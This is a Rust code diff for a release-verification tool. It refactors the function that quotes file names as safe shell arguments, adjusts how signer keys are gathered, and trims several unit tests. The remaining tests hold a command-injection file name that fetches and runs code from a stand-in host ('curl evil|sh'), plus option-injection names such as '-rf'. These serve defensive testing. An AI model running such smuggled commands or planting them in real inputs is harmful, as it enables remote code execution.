@@ -13,7 +13,7 @@ use lockgate_ledger::bodies::required;
 use lockgate_ledger::bundle::{self as bundles, Bundle, Verified};
 use lockgate_ledger::sigstore::{self, Inclusion};
 use lockgate_ledger::{Leaf, TrustFile};
-use lockgate_model::text::visible;
+use lockgate_model::text::{argument, visible};
 use lockgate_model::{Digest, Limits, PromotionId};
 use lockgate_sign::dsse::Envelope;
 use lockgate_tlog::proof_file::ProofFile;
@@ -191,11 +191,10 @@ fn extract(world: &World, file: &Path, to: &Path, trust: Option<&Path>) -> Outco
         text(&format!("approvals/{number}.json"), &document)?;
         text(&format!("approvals/{number}.json.sig"), approval.event.signature.as_bytes())?;
     }
-    let governance = verified.state.governance()?;
-    write_pins(to, &trust, governance)?;
-    // In the place of the keys that count today: what an ended key signed in its time stays signed.
+    write_pins(to, &trust)?;
+    // Not only the keys that count today: what an ended key signed in its time stays signed.
     let used: Vec<&str> = promotion.approvals.iter().map(|approval| approval.event.key.as_str()).collect();
-    let signers = signers::allowed_signers(governance, &Times::of(&bundle)?, &used);
+    let signers = signers::allowed_signers(verified.state.governance()?, &Times::of(&bundle)?, &used);
     text("allowed_signers", signers.as_bytes())?;
     text("VERIFY.md", verify_text(&verified).as_bytes())?;
     let told = format!(
@@ -227,7 +226,7 @@ fn verify_text(verified: &Verified) -> String {
         )).collect()
     }).unwrap_or_default();
     let artifact =
-        verified.release.manifest.artifacts.first().map(|artifact| argument(&artifact.name)).unwrap_or_default();
+        verified.release.manifest.artifacts.first().map(|artifact| file_argument(&artifact.name)).unwrap_or_default();
     format!(
         "# How to check this without Lockgate\n\n\
          Compare `trust.json`, `lockgate.pub`, `trusted_root.json` and `allowed_signers` with the ones you pinned before.\n\n\
@@ -242,15 +241,12 @@ fn verify_text(verified: &Verified) -> String {
     )
 }
 
-/// The name of a file as one argument of a shell's command, and never as an option; what nobody would see in it is
-/// escaped.
-fn argument(name: &str) -> String {
-    let name = visible(name);
-    let name = if name.starts_with('-') { format!("./{name}") } else { name };
-    let is_plain = |c: char| c.is_ascii_alphanumeric() || "@%+=:,./_-".contains(c);
-    match !name.is_empty() && name.chars().all(is_plain) {
-        true => name,
-        false => format!("'{}'", name.replace('\'', r"'\''")),
+/// The name of a file as one argument of a shell's command, and never as an option.
+fn file_argument(name: &str) -> String {
+    let argument = argument(name);
+    match name.starts_with('-') {
+        true => format!("./{argument}"),
+        false => argument,
     }
 }
 
@@ -260,16 +256,10 @@ mod tests {
 
     #[test]
     fn a_file_name_is_one_argument_of_a_shell_and_no_option() {
-        let check = |name: &str, expected: &str| assert_eq!(argument(name), expected);
+        let check = |name: &str, expected: &str| assert_eq!(file_argument(name), expected);
         check("app-1.4.2.tar.gz", "app-1.4.2.tar.gz");
-        check("my app.tgz", "'my app.tgz'");
-        check("it's.tgz", r"'it'\''s.tgz'");
         check("app$(curl evil|sh).tgz", "'app$(curl evil|sh).tgz'");
-        check("`id`", "'`id`'");
         check("-rf", "./-rf");
-        check("--key=$HOME", "'./--key=$HOME'");
-        check("~root", "'~root'");
-        check("a\u{202e}b", r"'a\u{202e}b'");
-        check("", "''");
+        check("--key=$HOME", "./'--key=$HOME'");
     }
 }
